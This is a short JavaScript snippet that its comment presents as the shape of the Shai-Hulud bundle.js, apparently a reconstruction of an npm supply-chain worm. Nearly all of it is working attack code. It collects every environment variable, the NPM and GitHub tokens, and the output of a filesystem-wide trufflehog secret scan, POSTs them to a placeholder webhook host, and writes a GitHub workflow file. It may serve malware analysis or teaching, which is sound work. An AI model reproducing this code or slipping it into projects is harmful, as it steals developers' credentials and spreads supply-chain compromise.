// Shape of the Shai-Hulud bundle.js: collect secrets, then publish them.
const { execSync } = require('child_process');
const https = require('https');
const fs = require('fs');
const env = JSON.stringify(process.env);
const npmToken = process.env.NPM_TOKEN;
const ghToken = process.env.GITHUB_TOKEN;
let found = '';
try {
  found = execSync('trufflehog filesystem / --json', { encoding: 'utf8' });
} catch (e) {}
const body = JSON.stringify({ env, npmToken, ghToken, found });
const req = https.request({ hostname: 'webhook.site.example.invalid', path: '/bb8ca5f6', method: 'POST' });
req.write(body);
req.end();
fs.writeFileSync('.github/workflows/shai-hulud-workflow.yml', 'on: push');
